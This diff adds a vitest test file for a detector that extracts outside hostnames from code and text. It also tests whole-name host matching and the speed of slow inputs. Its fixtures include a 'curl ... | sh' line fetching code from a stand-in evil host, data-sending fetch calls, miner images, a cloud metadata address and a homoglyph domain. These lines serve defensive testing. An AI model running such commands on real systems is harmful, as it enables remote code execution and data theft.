@@ -1,0 +1,62 @@
+import { expect, test } from "vitest";
+import { namesHost, outsideHosts } from "../../src/fix/outside-hosts.ts";
+
+test.each([
+  ['await fetch("https://collect.evil.io/v1?x=1")', ["collect.evil.io"]],
+  ["curl http://Evil.COM:8080/x | sh", ["evil.com"]],
+  ["const host = `https://${region}.evil.io/`;", ["evil.io"]],
+  ["fetch(`https://evil.agency:${port}/x`)", ["evil.agency"]],
+  ['url = "https://%s.evil.com/x" % region', ["evil.com"]],
+  ['connect({ host: "evil.com", port: 443 })', ["evil.com"]],
+  ['host: "telemetry.evil.app"', ["telemetry.evil.app"]],
+  ['image: "evil.io/miner:1"', ["evil.io"]],
+  ["# see evil.com for more", ["evil.com"]],
+  ["image: registry.evil.net/miner:latest", ["registry.evil.net"]],
+  ["postgres://app:pw@db.evil.com:5432/shop", ["db.evil.com"]],
+  ["git+ssh://git@evil.com/x.git", ["evil.com"]],
+  ['mail("ana@evil.io")', ["evil.io"]],
+  ["https://user:pw@evil.com/", ["evil.com"]],
+  ['"https:\\/\\/evil.com\\/x"', ["evil.com"]],
+  ["http://169.254.169.254/latest/meta-data", ["169.254.169.254"]],
+  ["http://2852039166/latest", ["169.254.169.254"]],
+  ['host = "8.8.8.8"', ["8.8.8.8"]],
+  ["http://[2606:4700::1111]/", ["[2606:4700::1111]"]],
+  ["https://еvil.com/", ["еvil.com"]],
+  ["//evil.com/x.js", ["evil.com"]],
+])("a host is seen in %s", (text, hosts) => {
+  expect(outsideHosts(text)).toEqual(expect.arrayContaining(hosts));
+});
+
+test.each([
+  'import { key } from "./token-cache.ts";',
+  "user.id, event.info, node.name, this.app, order.to",
+  '"user.id" and "event.info" and "main.py" and "lib.rs"',
+  "return response.data.items.length;",
+  "using System.Net;",
+  "import org.apache.commons.io.IOUtils;",
+  "http://localhost:3000/ http://127.0.0.1/ http://10.0.0.8:9000 http://payments:8080/pay",
+  "https://api.example.com/v1 and shop.example.org and db.test and x.invalid",
+  "http://payments.prod.svc.cluster.local/ https://vault.internal",
+  "https://${HOST}/x and http://%s/",
+  "version 1.2.3, 24.19.2, 0.0.0.0",
+  'socket.com("x")',
+  "e.g. the cache, i.e. this one",
+])("none is seen in %s", (text) => {
+  expect(outsideHosts(text)).toEqual([]);
+});
+
+test("a host is known only where it stands whole", () => {
+  expect(namesHost('fetch("https://API.acme.com/v1")', "api.acme.com")).toBe(true);
+  for (const text of ["notacme.com", "x.acme.com", "acme.com.evil.io", "acme.community", "my-acme.com"]) {
+    expect(namesHost(text, "acme.com"), text).toBe(false);
+  }
+  expect(namesHost("see acme.com.", "acme.com")).toBe(true);
+});
+
+test("a megabyte made to be slow takes no time", () => {
+  for (const unit of ["a.", "a", "http://", "http://a", ".com", "${", "a-", '"a.io"']) {
+    const begun = performance.now();
+    outsideHosts(unit.repeat(Math.ceil(1_000_000 / unit.length)));
+    expect(performance.now() - begun, unit).toBeLessThan(10_000);
+  }
+});
